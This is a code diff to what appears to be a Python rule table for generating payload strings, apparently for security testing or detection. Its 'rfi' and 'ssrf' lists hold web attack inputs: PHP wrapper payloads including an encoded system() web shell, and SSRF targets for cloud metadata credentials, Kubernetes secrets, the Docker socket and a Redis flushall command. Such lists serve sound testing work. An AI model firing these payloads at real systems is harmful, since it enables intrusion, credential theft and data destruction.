@@ -83,11 +83,11 @@ _FILES: Final[Rules] = {
     "rfi": ["«evil»", "«evil»", "«evil»", "php://filter/convert.base64-encode/resource=«word».php", "php://filter/read=string.rot13/resource=index.php", "php://input", "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==", "expect://id", "expect://ls", "phar://«word».phar/«word»", "zip://«word».jpg%23«word»",
             "data:text/plain,<?php system('id'); ?>", "php://filter/zlib.deflate/convert.base64-encode/resource=/etc/passwd", "compress.zlib://«word»", "glob:///var/www/*", "php://filter/convert.iconv.utf-8.utf-16/resource=config", "pHp://FilTer/convert.base64-encode/resource=../«word».php", "php://fd/3", "ogg://«word»", "data:;base64,PD9waHAgcGhwaW5mbygpOw=="],
     "inner": _dotted_integer,
-    "ssrf": ["http://«inner»/latest/meta-data/", "http://«inner»/latest/meta-data/iam/security-credentials/", "http://169.254.169.254/latest/«word»", "http://metadata.google.internal/computeMetadata/v1/", "http://«inner»:«port»/", "http://«inner»:«port»/«noun»", "http://127.0.0.1:«port»/admin", "http://localhost:«port»/admin", "gopher://«inner»:«port»/_%0d%0aINFO",
+    "ssrf": ["http://«inner»/latest/meta-data/", "http://«inner»/latest/meta-data/iam/security-credentials/", "http://169.254.169.254/latest/«word»", "http://metadata.google.internal/computeMetadata/v1/", "http://«inner»:«port»/", "http://«inner»:«port»/«noun»", "http://127.0.0.1:«port»/", "http://localhost:«port»/", "gopher://«inner»:«port»/_%0d%0aINFO",
              "gopher://127.0.0.1:6379/_flushall", "dict://«inner»:«port»/info", "file:///etc/passwd", "file:///c:/windows/win.ini", "file://«inner»/«target»", "ldap://«inner»:389/%0astats", "sftp://«host»:«port»/", "tftp://«host»:69/«word»", "http://localhost/server-status", "http://«word»@«inner»/", "http://«host»#@«inner»/", "http://«host»@«inner»/«noun»",
              "jar:http://«host»/«word».jar!/", "http://169.254.169.254/metadata/instance?api-version=2021-02-01", "http://169.254.170.2/v2/credentials/", "netdoc:///etc/passwd", "http://kubernetes.default.svc/api/v1/secrets", "http://«inner»/admin/delete?user=«word»", "http://«inner»:2375/containers/json", "unix:///var/run/docker.sock",
              "http://«inner»/openstack/latest/meta_data.json", "url=http://«inner»/", "http://①②⑦.⓪.⓪.①/", "http://«inner»%23.«host»/", "http:\\\\«inner»\\", "https://«inner»:«port»@«host»/"],
-    "port": ["22", "80", "3306", "6379", "8080", "9200", "11211", "5432", "2375", "27017", "8500", "10250", "25", "«nn»"],
+    "port": ["22", "3306", "6379", "9200", "11211", "5432", "2375", "27017", "8500", "10250", "25", "«nn»"],
 }  # fmt: skip
 
 _DOCUMENTS: Final[Rules] = {
